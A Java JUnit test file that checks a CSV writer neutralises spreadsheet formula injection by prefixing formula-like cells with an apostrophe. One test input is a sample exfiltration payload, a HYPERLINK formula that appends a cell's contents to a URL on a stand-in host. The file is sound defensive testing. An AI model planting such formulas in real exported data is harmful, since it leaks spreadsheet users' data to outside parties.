package org.promiseledger.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.nio.file.Files;
import java.nio.file.Path;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The spreadsheet-safety rule of every CSV the product writes: formula-like text gets a leading ', numbers stay numbers. */
class SpreadsheetSafeCsvTests {

    @Test
    void textStartingWithAFormulaCharacterGetsALeadingApostrophe() {
        assertThat(SpreadsheetSafeCsv.cell("=HYPERLINK(\"http://x.example/?q=\"&C3,\"E13\")"))
                .isEqualTo("'=HYPERLINK(\"http://x.example/?q=\"&C3,\"E13\")");
        assertThat(SpreadsheetSafeCsv.cell("@SUM(9+1)")).isEqualTo("'@SUM(9+1)");
        assertThat(SpreadsheetSafeCsv.cell("+31 20 555")).isEqualTo("'+31 20 555");
        assertThat(SpreadsheetSafeCsv.cell("-759.98")).isEqualTo("'-759.98");
        assertThat(SpreadsheetSafeCsv.cell("\tcmd")).isEqualTo("'\tcmd");
        assertThat(SpreadsheetSafeCsv.cell("\rcmd")).isEqualTo("'\rcmd");
    }

    @Test
    void ordinaryTextAndEmptyCellsAreUnchanged() {
        assertThat(SpreadsheetSafeCsv.cell("E13")).isEqualTo("E13");
        assertThat(SpreadsheetSafeCsv.cell("a=b")).isEqualTo("a=b");
        assertThat(SpreadsheetSafeCsv.cell("")).isEmpty();
        assertThat(SpreadsheetSafeCsv.cell(null)).isEmpty();
    }

    @Test
    void numbersStayPlainNumbersEvenWhenNegative() {
        assertThat(SpreadsheetSafeCsv.cell(new BigDecimal("-759.98"))).isEqualTo("-759.98");
        assertThat(SpreadsheetSafeCsv.cell(new BigDecimal("1E+3"))).isEqualTo("1000");
        assertThat(SpreadsheetSafeCsv.cell(-42L)).isEqualTo("-42");
    }

    @Test
    void writesRfc4180RecordsWithTheSafeCells(@TempDir Path dir) throws Exception {
        Path out = dir.resolve("x.csv");
        try (SpreadsheetSafeCsv csv = SpreadsheetSafeCsv.create(out, "id", "amount")) {
            csv.row("=1+2,\"x\"", new BigDecimal("-759.98"));
        }

        assertThat(Files.readString(out)).isEqualTo("id,amount\n\"'=1+2,\"\"x\"\"\",-759.98\n");
    }
}
